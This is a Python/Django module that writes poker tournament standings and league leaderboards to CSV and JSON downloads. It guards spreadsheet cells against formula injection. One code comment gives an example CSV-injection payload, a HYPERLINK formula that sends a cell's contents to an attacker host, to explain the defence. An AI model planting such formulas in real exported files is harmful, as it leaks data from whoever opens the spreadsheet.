"""Standings and leaderboards as CSV and JSON files. The column names and JSON keys are a stable, untranslated
data format (a spreadsheet or a script reads them); the values are the selectors' own."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterable, Sequence
from typing import Any

from django.http import HttpResponse

STANDINGS_COLUMNS = (
    "place",
    "place_to",
    "player",
    "player_id",
    "entry_number",
    "status",
    "chips",
    "big_blinds",
    "table",
    "seat",
    "prize",
    "bounties",
    "points",
)
LEADERBOARD_COLUMNS = (
    "rank",
    "player",
    "player_id",
    "points",
    "wins",
    "cashes",
    "best_place",
    "played",
    "counted",
    "prize",
    "bounties",
)


def points_text(hundredths: int | None) -> str:
    """League points are kept in hundredths: 1250 -> "12.50"."""
    if hundredths is None:
        return ""
    sign = "-" if hundredths < 0 else ""
    whole, cents = divmod(abs(int(hundredths)), 100)
    return f"{sign}{whole}.{cents:02d}"


def standings_rows(standings: dict[str, Any]) -> list[dict[str, Any]]:
    """One row per entry: the players still in by chips, then those out by place (live), or the results."""
    if standings["kind"] == "final":
        return [
            {**r, "status": "finished", "points": points_text(int(r["points"])) if r["points"] else ""}
            for r in standings["results"]
        ]
    rows = []
    for r in standings["alive"]:
        seat = r["seat"] or {}
        rows.append(
            {**r, "place": r["rank"], "table": seat.get("table"), "seat": seat.get("seat"), "prize": None}
        )
    rows.extend({**r, "status": "out"} for r in standings["out"])
    return rows


def leaderboard_rows(board: dict[str, Any]) -> list[dict[str, Any]]:
    return [{**r, "points": points_text(r["points"])} for r in board["rows"]]


# A spreadsheet reads a cell starting with one of these as a formula (OWASP "CSV injection"):
# =HYPERLINK("http://evil.example/?"&A1, "prize") in a player's name would run when the file is opened.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def csv_cell(value: Any) -> Any:
    """A cell as written: text that a spreadsheet would read as a formula gets a leading ``'`` (shown as
    text, not run); numbers, and text that is a plain number (``"-12.50"`` points), are written as they are.

    >>> [csv_cell(v) for v in ('=1+1', '@SUM(A1)', '-12.50', -3, 'Ann', None)]
    ["'=1+1", "'@SUM(A1)", '-12.50', -3, 'Ann', '']
    """
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_response(rows: Iterable[dict[str, Any]], columns: Sequence[str], filename: str) -> HttpResponse:
    """Every CSV download: the rows under ``columns``, each cell through :func:`csv_cell`."""
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=list(columns), extrasaction="ignore", lineterminator="\r\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({c: csv_cell(row.get(c)) for c in columns})
    response = HttpResponse(buf.getvalue(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def json_response(data: dict[str, Any], filename: str) -> HttpResponse:
    body = json.dumps(data, ensure_ascii=False, indent=1, default=str)
    response = HttpResponse(body, content_type="application/json; charset=utf-8")
    response["Content-Disposition"] = f'inline; filename="{filename}"'
    return response
